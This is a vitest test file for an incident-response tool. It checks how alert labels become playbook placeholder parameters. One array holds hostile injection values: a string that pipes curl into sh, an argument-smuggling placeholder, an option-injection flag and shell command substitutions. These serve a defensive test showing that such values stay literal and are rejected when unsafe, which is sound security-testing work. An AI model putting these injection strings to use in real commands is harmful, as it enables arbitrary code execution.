/**
 * What an alert contributes to playbook placeholders.
 */
import { describe, expect, it } from 'vitest';
import { alertFromFlags, alertParams, parseAlertPayload } from '../../src/collect/alert.ts';
import { fillArgs } from '../../src/playbook/interpolate.ts';

const HOSTILE = ['"; curl x|sh #', '{{secret}}', '-http=0.0.0.0:80', '$(id)', '`id`'];

function payload(labels: Record<string, string>) {
  return {
    version: '4',
    status: 'firing',
    alerts: [
      {
        status: 'firing',
        labels,
        annotations: {},
        startsAt: '2026-11-26T03:12:00Z',
        endsAt: '0001-01-01T00:00:00Z',
        generatorURL: 'http://prom:9090/graph?g0.expr=up+%3D%3D+0&g0.tab=1',
      },
    ],
    commonLabels: {},
  };
}

describe('alertParams', () => {
  it('offers times, window start, expression, every label and the common ones by name; a firing alert leaves the window open', () => {
    const alert = parseAlertPayload(
      payload({
        alertname: 'Down',
        service: 'checkout',
        instance: '10.0.0.7:8080',
        namespace: 'shop',
        job: 'checkout-scrape',
        pod: 'checkout-1',
        'app.kubernetes.io/name': 'co',
      }),
      'p.json',
      { now: new Date('2026-11-26T04:00:00Z') },
    );
    expect(alertParams(alert)).toEqual({
      'alert.startsAt': '2026-11-26T03:12:00Z',
      'alert.expr': 'up == 0',
      'window.start': '2026-11-26T02:42:00Z',
      'label.alertname': 'Down',
      'label.service': 'checkout',
      'label.instance': '10.0.0.7:8080',
      'label.namespace': 'shop',
      'label.job': 'checkout-scrape',
      'label.pod': 'checkout-1',
      'label.app_kubernetes_io_name': 'co',
      service: 'checkout',
      instance: '10.0.0.7:8080',
      namespace: 'shop',
      job: 'checkout-scrape',
      pod: 'checkout-1',
    });
  });

  it('a resolved alert closes the window at its end', () => {
    const resolved = payload({ alertname: 'Down' });
    resolved.alerts[0]!.status = 'resolved';
    resolved.alerts[0]!.endsAt = '2026-11-26T03:40:00Z';
    const params = alertParams(parseAlertPayload(resolved, 'p.json', { now: new Date('2026-11-26T05:00:00Z') }));
    expect(params['alert.endsAt']).toBe('2026-11-26T03:40:00Z');
    expect(params['window.end']).toBe('2026-11-26T03:40:00Z');
  });

  it('leaves out what the labels do not carry', () => {
    const params = alertParams(parseAlertPayload(payload({ alertname: 'X' }), 'p.json'));
    for (const name of ['service', 'instance', 'namespace', 'job', 'pod', 'alert.endsAt']) expect(params).not.toHaveProperty(name);
    expect(alertParams(alertFromFlags({ now: new Date('2026-11-26T04:00:00Z') }))).toEqual({
      'window.start': '2026-11-26T03:30:00Z',
    });
  });

  it('prefers a label whose name is already clean when two names sanitise alike', () => {
    const params = alertParams(parseAlertPayload(payload({ 'a.b': 'dotted', a_b: 'clean', 'x-y': 'dashed' }), 'p.json'));
    expect(params['label.a_b']).toBe('clean');
    expect(params['label.x_y']).toBe('dashed');
  });

  it('hands hostile label values through unchanged, each one argument when filled', () => {
    const labels = Object.fromEntries(HOSTILE.map((v, i) => [`h${i}`, v]));
    const params = alertParams(parseAlertPayload(payload(labels), 'p.json'));
    HOSTILE.forEach((value, i) => expect(params[`label.h${i}`]).toBe(value));
    // The placeholder filler (not ours) then sees the literal: {{secret}} is never expanded.
    const argv = fillArgs(['--note={{label.h1}}', '{{label.h0}}'], { ...params, secret: 'LEAK' }, 'test');
    expect(argv).toEqual(['--note={{secret}}', '"; curl x|sh #']);
    expect(() => fillArgs(['{{label.h2}}'], params, 'test')).toThrow(/starts with '-'/);
  });
});
